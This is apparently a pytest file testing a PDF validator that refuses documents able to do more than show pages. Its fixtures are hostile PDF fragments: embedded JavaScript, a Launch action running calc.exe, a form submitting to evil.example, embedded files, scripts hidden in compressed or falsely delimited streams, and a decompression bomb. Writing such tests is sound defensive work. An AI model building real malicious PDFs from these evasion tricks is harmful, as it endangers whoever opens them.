"""PDFs that do more than show pages are not taken."""

import io
import zlib

import pytest
from PIL import Image

from pacs.consult.documents import MOST_UNPACKED, check
from pacs.errors import ActiveDocument

PAGES = b"<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] /Names << /Dests 9 0 R >> >>"


def pdf(*objects: bytes) -> bytes:
    numbered = (b"%d 0 obj\n%s\nendobj\n" % (number, one) for number, one in enumerate((PAGES, *objects), 1))
    return b"%PDF-1.7\n" + b"".join(numbered) + b"trailer << /Root 1 0 R >>\n%%EOF\n"


def packed(inside: bytes, more: bytes = b"/Filter /FlateDecode") -> bytes:
    data = zlib.compress(inside)
    return b"<< /Type /ObjStm /N 1 /First 4 %s /Length %d >>\nstream\r\n%s\nendstream" % (more, len(data), data)


SCRIPT = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
ACTIVE = {
    "script": SCRIPT,
    "script with escapes": b"<< /S /J#61vaScr#69pt /JS 5 0 R >>",
    "program": b"<</S/Launch/F(calc.exe)>>",
    "file": b"<< /Names << /EmbeddedFiles 5 0 R >> >>",
    "file of an annotation": b"<< /Type /EmbeddedFile /Length 0 >>",
    "media": b"<< /Subtype /RichMedia >>",
    "form that sends": b"<< /S /SubmitForm /F (https://evil.example) >>",
    "form of its own kind": b"<< /AcroForm << /XFA 5 0 R >> >>",
    "packed script": packed(b"6 0 " + SCRIPT),
    "packed twice": packed(b"x", b"/Filter [/FlateDecode /FlateDecode] /DecodeParms [null null]"),
    "packed otherwise": packed(b"x", b"/Filter /LZWDecode"),
    "packed and broken": b"<< /Type /Obj#53tm /Filter /FlateDecode >>\nstream\nnothing that unpacks\nendstream",
    "hidden behind a stream": b"% stream\n1 0 obj " + SCRIPT + b" endobj endstream",
    "packed behind a false stream": b"% stream\n" + packed(b"6 0 " + SCRIPT),
    "packed and cut": packed(b"x" * 99).replace(b"\nendstream", b"")[:-3] + b"endstream",
    "password": b"<< /Encrypt 7 0 R >>",
}


@pytest.mark.parametrize("what", list(ACTIVE))
def test_what_could_act_is_refused(what: str) -> None:
    with pytest.raises(ActiveDocument):
        check(pdf(ACTIVE[what]))


def test_a_bomb_is_not_unpacked() -> None:
    with pytest.raises(ActiveDocument, match="too much"):
        check(pdf(packed(bytes(MOST_UNPACKED + 1))))


def test_what_shows_pages_is_taken() -> None:
    drawn = io.BytesIO()
    Image.effect_noise((200, 200), 90).convert("RGB").save(drawn, "PDF")
    for one in (
        drawn.getvalue(), pdf(), pdf(b"<< /A << /S /URI /URI (https://bv.vn) >> >>"),
        pdf(b"<< /Length 30 >>\nstream\nBT (about JavaScript, /JS) Tj ET\nendstream"),
        pdf(packed(b"6 0 << /Type /Page /Contents 5 0 R >>")), pdf(b"<< /Font << /JavaScriptSans 8 0 R >> >>"),
    ):  # fmt: skip
        check(one)
